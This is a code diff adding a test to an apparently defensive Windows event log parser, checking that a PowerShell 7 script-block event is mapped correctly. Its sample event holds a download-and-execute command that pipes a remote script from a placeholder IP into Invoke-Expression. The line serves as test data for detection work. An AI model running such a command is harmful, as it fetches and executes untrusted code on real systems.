@@ -67,3 +67,29 @@ def test_module_logging_context_ids_are_mapped(tmp_path: Path) -> None:
     assert event["powershell"]["connected_user"] == {"domain": "CORP", "name": "helpdesk"}
     assert event["user"] == {"domain": "CORP", "name": "jdoe"}
     assert event["event"]["sequence"] == 41
+
+
+def test_powershell_7_script_block_is_mapped_like_windows_powershell(tmp_path: Path) -> None:
+    # pwsh 7 logs to PowerShellCore/Operational from provider PowerShellCore; Sigma's ps_script covers it.
+    xml = (
+        '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
+        '<Provider Name="PowerShellCore" Guid="{f90714a8-5509-434a-bf6d-b1624c8a19a2}"/>'
+        "<EventID>4104</EventID><Version>1</Version><Level>5</Level><Task>2</Task><Opcode>15</Opcode>"
+        '<Keywords>0x0</Keywords><TimeCreated SystemTime="2024-05-14T11:02:45.8812004Z"/>'
+        '<EventRecordID>731</EventRecordID><Correlation ActivityID="{9d1e0b5c-a6f7-0001-62c4-1f9df7a6da01}"/>'
+        '<Execution ProcessID="7712" ThreadID="8840"/><Channel>PowerShellCore/Operational</Channel>'
+        '<Computer>WS042.corp.example.com</Computer><Security UserID="S-1-5-21-1-2-3-1013"/></System>'
+        '<EventData><Data Name="MessageNumber">1</Data><Data Name="MessageTotal">1</Data>'
+        '<Data Name="ScriptBlockText">Invoke-WebRequest -Uri http://198.51.100.7/p.ps1 | Invoke-Expression</Data>'
+        '<Data Name="ScriptBlockId">5a0e8c1d-2b3f-4e6a-9c7d-8e9f0a1b2c3d</Data>'
+        '<Data Name="Path">C:\\Users\\jdoe\\dl.ps1</Data></EventData></Event>'
+    )
+    path = tmp_path / "pwsh.xml"
+    path.write_text(xml + "\r\n", encoding="utf-8")
+    events, _ = run([path], fmt="winlog-xml")
+    assert len(events) == 1 and not failed(events[0])
+    powershell = events[0]["powershell"]
+    assert powershell["file"]["script_block_text"].startswith("Invoke-WebRequest -Uri")
+    assert powershell["file"]["script_block_id"] == "5a0e8c1d-2b3f-4e6a-9c7d-8e9f0a1b2c3d"
+    assert (powershell["sequence"], powershell["total"]) == (1, 1)
+    assert events[0]["file"]["name"] == "dl.ps1"
